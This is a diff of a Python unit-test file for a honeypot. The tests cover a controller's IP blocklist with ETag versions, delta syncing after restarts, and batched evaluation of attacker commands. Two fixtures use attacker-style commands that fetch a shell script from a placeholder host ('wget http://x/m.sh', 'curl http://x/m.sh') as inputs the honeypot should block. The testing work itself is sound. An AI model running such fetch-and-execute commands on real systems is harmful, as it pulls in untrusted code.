@@ -7,9 +7,13 @@ from controller_server import app, API_KEY, BLOCKED_IPS
 
 class TestStage6(unittest.TestCase):
 
+    @classmethod
+    def setUpClass(cls):
+        # One client for the whole class; TESTING propagates errors instead of trapping them
+        app.config.update(TESTING=True)
+        cls.client = app.test_client()
+
     def setUp(self):
-        self.app = app.test_client()
-        self.app.testing = True
         # Reset Blocklist
         BLOCKED_IPS.clear()
 
@@ -21,49 +25,169 @@ class TestStage6(unittest.TestCase):
             "sensor_id": "sensor-01",
             "ip": "10.0.0.99"
         }
-        response = self.app.post('/receive_log', 
-                                 json=payload,
-                                 headers={'X-API-KEY': API_KEY})
+        response = self.client.post('/receive_log', 
+                                    json=payload,
+                                    headers={'X-API-KEY': API_KEY})
         self.assertEqual(response.status_code, 200)
         
         # 2. Verify IP is in global blocklist
         self.assertIn("10.0.0.99", BLOCKED_IPS)
 
+    def test_recent_events(self):
+        payload = {"timestamp": "2026-02-20T12:00:00", "event_type": "CMD_EXEC", "sensor_id": "sensor-01", "ip": "10.0.0.42"}
+        self.client.post('/receive_log', json=payload, headers={'X-API-KEY': API_KEY})
+        seen = self.client.get('/events?event_type=CMD_EXEC&ip=10.0.0.42', headers={'X-API-KEY': API_KEY}).get_json()
+        self.assertEqual(seen, {"found": True, "last_seen": "2026-02-20T12:00:00"})
+        unseen = self.client.get('/events?event_type=BLOCK&ip=10.0.0.42', headers={'X-API-KEY': API_KEY}).get_json()
+        self.assertFalse(unseen['found'])
+        self.assertEqual(self.client.get('/events?event_type=CMD_EXEC&ip=10.0.0.42').status_code, 401)
+
     def test_get_blocklist(self):
         BLOCKED_IPS.add("1.2.3.4")
-        response = self.app.get('/blocklist')
+        response = self.client.get('/blocklist')
         data = response.get_json()
         self.assertIn("1.2.3.4", data)
 
-    @patch('honeypot.requests.get')
-    def test_honeypot_sync(self, mock_get):
-        # Test the sync logic from the honeypot side (imported locally to avoid running threads)
+    def test_blocklist_etag(self):
+        import controller_server
+        controller_server.block_ip("5.6.7.8")
+        response = self.client.get('/blocklist')
+        etag = response.headers['ETag']
+        cached = self.client.get('/blocklist', headers={'If-None-Match': etag})
+        self.assertEqual(cached.status_code, 304)
+
+        controller_server.block_ip("9.9.9.9")
+        changed = self.client.get('/blocklist', headers={'If-None-Match': etag})
+        self.assertEqual(changed.status_code, 200)
+        self.assertIn("9.9.9.9", changed.get_json())
+
+    def test_blocklist_etag_survives_restart(self):
+        import controller_server
+        controller_server.block_ip("5.6.7.8")
+        etag = self.client.get('/blocklist').headers['ETag']
+
+        # A restarted controller counts from 0 again and can reach the same version
+        with patch.object(controller_server, 'BLOCKLIST_EPOCH', 'rebooted'):
+            response = self.client.get('/blocklist', headers={'If-None-Match': etag})
+        self.assertEqual(response.status_code, 200)
+        self.assertTrue(response.headers['ETag'].strip('"').startswith('rebooted.'))
+
+    def test_blocklist_delta(self):
+        import controller_server
+        controller_server.block_ip("5.5.5.5")
+        tag = self.client.get('/blocklist').headers['ETag'].strip('"')
+        epoch, version = tag.split('.')
+        version = int(version)
+
+        controller_server.block_ip("6.6.6.6")
+        controller_server.unblock("5.5.5.5")
+        delta = self.client.get(f'/blocklist?since={tag}').get_json()
+        self.assertEqual(delta, {"epoch": epoch, "version": version + 2, "added": ["6.6.6.6"], "removed": ["5.5.5.5"]})
+
+        # A version the journal cannot answer for gets the full list
+        full = self.client.get(f'/blocklist?since={epoch}.{version + 100}').get_json()
+        self.assertEqual(full, {"epoch": epoch, "version": version + 2, "full": ["6.6.6.6"]})
+
+        # So does a tag from before a controller restart, even if its version is in range
+        restarted = self.client.get(f'/blocklist?since=oldboot.{version}').get_json()
+        self.assertEqual(restarted, {"epoch": epoch, "version": version + 2, "full": ["6.6.6.6"]})
+
+    def test_honeypot_applies_delta(self):
         import honeypot
-        
-        # Mock Controller Response
-        mock_response = MagicMock()
-        mock_response.status_code = 200
-        mock_response.json.return_value = ["192.168.1.50"]
-        mock_get.return_value = mock_response
-        
-        # Manually trigger sync logic
         syncer = honeypot.BlocklistSyncer()
-        # We can't easily run the loop logic without threading, but we can call the requests part if extracted
-        # Or checking effects.
-        # Let's mock the sync action:
-        honeypot.CONTROLLER_URL = "http://mock/receive_log"
-        mock_get.return_value.json.return_value = ["1.1.1.1"]
-        
-        # Run one iteration of logic (simulated)
+        syncer.apply(["1.1.1.1", "2.2.2.2"], '"boot1.7"')
+        self.assertEqual((syncer.epoch, syncer.version), ("boot1", 7))
+        syncer.apply({"epoch": "boot1", "version": 9, "added": ["3.3.3.3"], "removed": ["1.1.1.1"]})
+        self.assertEqual(syncer.version, 9)
+        self.assertEqual(honeypot.GLOBAL_BLOCKED_IPS, frozenset({"2.2.2.2", "3.3.3.3"}))
+
+        # A delta from another boot is refused and forces a full resync
+        self.assertFalse(syncer.apply({"epoch": "boot2", "version": 10, "added": ["5.5.5.5"], "removed": []}))
+        self.assertIsNone(syncer.version)
+        self.assertEqual(honeypot.GLOBAL_BLOCKED_IPS, frozenset({"2.2.2.2", "3.3.3.3"}))
+        syncer.apply({"epoch": "boot2", "version": 1, "full": ["4.4.4.4"]})
+        self.assertEqual((syncer.epoch, syncer.version), ("boot2", 1))
+        self.assertEqual(honeypot.GLOBAL_BLOCKED_IPS, frozenset({"4.4.4.4"}))
+        honeypot.GLOBAL_BLOCKED_IPS = frozenset()
+
+    def test_honeypot_resyncs_after_controller_restart(self):
+        import honeypot
+        syncer = honeypot.BlocklistSyncer()
+        syncer.apply(["1.1.1.1"], '"boot1.3"')
+        delta = MagicMock(status_code=200, content=b'{"epoch": "boot2", "version": 4, "added": ["2.2.2.2"], "removed": []}', headers={'ETag': '"boot2.4"'})
+        full = MagicMock(status_code=200, content=b'["2.2.2.2"]', headers={'ETag': '"boot2.4"'})
+        with patch.object(honeypot, 'CONTROLLER_URL', "http://mock/receive_log"), \
+             patch.object(honeypot.CONTROLLER_SESSION, 'get', side_effect=[delta, full]) as mock_get:
+            syncer.sync_once()
+        self.assertEqual(mock_get.call_args_list[0][1]['params'], {'since': 'boot1.3'})
+        # The refetch asks for the full list, with no since
+        self.assertNotIn('params', mock_get.call_args_list[1][1])
+        self.assertEqual((syncer.epoch, syncer.version), ("boot2", 4))
+        self.assertEqual(honeypot.GLOBAL_BLOCKED_IPS, frozenset({"2.2.2.2"}))
+        honeypot.GLOBAL_BLOCKED_IPS = frozenset()
+
+    def test_cached_block_verdict_is_reported(self):
+        import honeypot
+        simulator = MagicMock(current_path='/tmp')
+        key = ("wget http://x/m.sh", '/tmp', ())
+        honeypot._store_eval(key, {"action": "BLOCK"})
         try:
-             url = f"http://mock/blocklist"
-             resp = mock_get(url, timeout=5)
-             if resp.status_code == 200:
-                 honeypot.GLOBAL_BLOCKED_IPS = set(resp.json())
-        except: pass
-        
+            with patch.object(honeypot, 'log_event') as log_event:
+                decision = honeypot.evaluate_command("10.0.0.7", key[0], simulator, [{"command": key[0]}])
+        finally:
+            honeypot.EVAL_CACHE.pop(key, None)
+        self.assertEqual(decision, {"action": "BLOCK"})
+        # Another IP reusing the verdict must still reach the controller's blocklist
+        self.assertEqual(log_event.call_args[0][:2], ("BLOCK", "10.0.0.7"))
+
+    def test_coalesced_block_verdict_is_reported(self):
+        import honeypot
+        simulator = MagicMock(current_path='/tmp')
+        key = ("curl http://x/m.sh", '/tmp', ())
+        leader = honeypot.concurrent.futures.Future()
+        leader.set_result({"action": "BLOCK"})
+        honeypot.PENDING_EVALS[key] = leader
+        try:
+            with patch.object(honeypot, 'log_event') as log_event:
+                decision = honeypot.evaluate_command("10.0.0.8", key[0], simulator, [{"command": key[0]}])
+        finally:
+            honeypot.PENDING_EVALS.pop(key, None)
+        self.assertEqual(decision, {"action": "BLOCK"})
+        self.assertEqual(log_event.call_args[0][:2], ("BLOCK", "10.0.0.8"))
+
+    def test_eval_batcher_starts_on_first_submit(self):
+        import honeypot
+        batcher = honeypot.EvalBatcher()
+        self.assertFalse(batcher.is_alive())
+        answer = lambda batch: [future.set_result({"action": "ALLOW"}) for _, future in batch]
+        with patch.object(honeypot.EvalBatcher, '_send_batch', side_effect=answer):
+            future = batcher.submit({"command": "ls"})
+            self.assertEqual(future.result(timeout=2), {"action": "ALLOW"})
+        batcher.running = False
+        batcher.join(timeout=2)
+
+    def test_short_batch_response_fails_leftover_evaluations(self):
+        import honeypot
+        batch = [({"command": "a"}, honeypot.concurrent.futures.Future()), ({"command": "b"}, honeypot.concurrent.futures.Future())]
+        response = MagicMock(status_code=200, content=b'{"results": [{"status": 200, "decision": {"action": "ALLOW"}}]}')
+        with patch.object(honeypot, 'CONTROLLER_URL', "http://mock/receive_log"), \
+             patch.object(honeypot.CONTROLLER_SESSION, 'post', return_value=response):
+            honeypot.eval_batcher._send_batch(batch)
+        self.assertEqual(batch[0][1].result(timeout=0), {"action": "ALLOW"})
+        self.assertIsInstance(batch[1][1].exception(timeout=0), requests.RequestException)
+
+    def test_honeypot_sync(self):
+        import honeypot
+        response = MagicMock(status_code=200, content=b'["1.1.1.1"]', headers={'ETag': '"boot1.3"'})
+        syncer = honeypot.BlocklistSyncer()
+        with patch.object(honeypot, 'CONTROLLER_URL', "http://mock/receive_log"), \
+             patch.object(honeypot.CONTROLLER_SESSION, 'get', return_value=response) as mock_get:
+            syncer.sync_once()
+        self.assertEqual(mock_get.call_args[0][0], "http://mock/blocklist")
+        self.assertEqual(syncer.version, 3)
         self.assertIn("1.1.1.1", honeypot.GLOBAL_BLOCKED_IPS)
         self.assertTrue(honeypot.is_blocked("1.1.1.1"))
+        honeypot.GLOBAL_BLOCKED_IPS = frozenset()
 
 if __name__ == '__main__':
     unittest.main()